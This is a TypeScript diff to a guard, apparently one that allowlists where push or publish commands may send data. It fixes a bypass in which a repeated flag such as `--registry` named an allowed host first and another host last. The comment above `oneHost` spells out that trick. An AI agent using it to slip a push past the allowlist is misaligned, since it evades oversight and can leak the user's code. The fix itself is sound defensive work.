@@ -13,11 +13,23 @@ import type { PushToolSpec } from './types.js';
  * registry.
  */
 export function destinationHostOf(spec: PushToolSpec, parsed: ParsedArgv, host: string | null): string | null {
-  const hostFlag = flagValue(spec.destinationFlags, parsed);
-  if (hostFlag !== null) return urlHost(hostFlag)?.host ?? (hostFlag.includes(':/') ? null : hostFlag.toLowerCase());
-  const sourceName = flagValue(spec.sourceNameFlags, parsed);
-  if (sourceName !== null) return urlHost(sourceName)?.host ?? null;
+  const hostFlags = flagValues(spec.destinationFlags, parsed);
+  if (hostFlags.length > 0)
+    return oneHost(hostFlags.map((v) => urlHost(v)?.host ?? (v.includes(':/') ? null : v.toLowerCase())));
+  const sourceNames = flagValues(spec.sourceNameFlags, parsed);
+  if (sourceNames.length > 0) return oneHost(sourceNames.map((v) => urlHost(v)?.host ?? null));
   return host ?? (spec.destination === 'fixed' ? (spec.fixedDestination ?? null) : null);
+}
+
+/**
+ * The host a repeated flag names, or null when its occurrences name different ones: which one the tool takes
+ * is its parser's rule (pflag, nopt and argparse the last), so `--registry https://registry.npmjs.org/
+ * --registry https://npm.evil.example/` named the first, an allowlist entry for it exempted the push, and it
+ * went to the second.
+ */
+function oneHost(hosts: readonly (string | null)[]): string | null {
+  const first = hosts[0] ?? null;
+  return hosts.every((h) => h === first) ? first : null;
 }
 
 /** The host a remote names, as the tool reads its remotes (`spec.destination`); null for a tool whose remotes name none. */
@@ -41,14 +53,17 @@ export function destinationIsDefault(spec: PushToolSpec, parsed: ParsedArgv): bo
   return (
     spec.destination === 'fixed' &&
     spec.fixedDestination !== undefined &&
-    flagValue(spec.destinationFlags, parsed) === null &&
-    flagValue(spec.sourceNameFlags, parsed) === null
+    flagValues(spec.destinationFlags, parsed).length === 0 &&
+    flagValues(spec.sourceNameFlags, parsed).length === 0
   );
 }
 
-function flagValue(names: readonly string[] | undefined, parsed: ParsedArgv): string | null {
-  if (!names) return null;
-  return parsed.flags.find((x) => names.includes(x.flag) && x.value)?.value ?? null;
+/** The values of each occurrence of the flags `names`, in argv's order. */
+function flagValues(names: readonly string[] | undefined, parsed: ParsedArgv): string[] {
+  if (!names) return [];
+  const values: string[] = [];
+  for (const x of parsed.flags) if (names.includes(x.flag) && x.value) values.push(x.value);
+  return values;
 }
 
 /**
@@ -59,7 +74,7 @@ function flagValue(names: readonly string[] | undefined, parsed: ParsedArgv): st
  * written that way is a push, to be allowlisted).
  */
 export function destinationIsLocal(spec: PushToolSpec, parsed: ParsedArgv): boolean {
-  const v = flagValue(spec.sourceNameFlags, parsed);
-  if (v === null) return false;
-  return /^(?:\/|\.{1,2}[\\/]|~[\\/]|file:|\\\\|[A-Za-z]:[\\/])/i.test(v);
+  // Every occurrence: a repeated flag's first one a folder and its last a server is a push (oneHost).
+  const values = flagValues(spec.sourceNameFlags, parsed);
+  return values.length > 0 && values.every((v) => /^(?:\/|\.{1,2}[\\/]|~[\\/]|file:|\\\\|[A-Za-z]:[\\/])/i.test(v));
 }
